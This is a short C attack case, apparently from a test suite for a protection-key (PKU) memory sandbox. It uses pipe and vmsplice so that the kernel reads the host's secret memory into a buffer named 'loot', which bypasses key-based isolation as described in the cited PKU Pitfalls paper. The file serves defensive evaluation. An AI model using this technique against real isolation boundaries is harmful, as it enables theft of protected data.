/* Tries: to have the kernel take a page of the host's into a pipe, and to read it from there
 * From: PKU Pitfalls (Connor et al., USENIX Security 2020): what the kernel reaches by itself
 *   knows no keys
 * Observed: The secret in what the call gave back.
 * Needs: linux */
#include "attacks/attack.h"

FOREIGN(run)
{
    int ends[2];
    uint64_t what[2] = {at->secret_global, SECRET_SIZE};
    if (kernel3(SYS_pipe, ADDRESS(ends), 0, 0))
        return 1;
    kernel6(SYS_vmsplice, (uint64_t)ends[1], ADDRESS(what), 1, 0, 0, 0);
    kernel3(SYS_read, (uint64_t)ends[0], ADDRESS(at->loot), SECRET_SIZE);
    kernel3(SYS_close, (uint64_t)ends[0], 0, 0);
    kernel3(SYS_close, (uint64_t)ends[1], 0, 0);
    return 0;
}
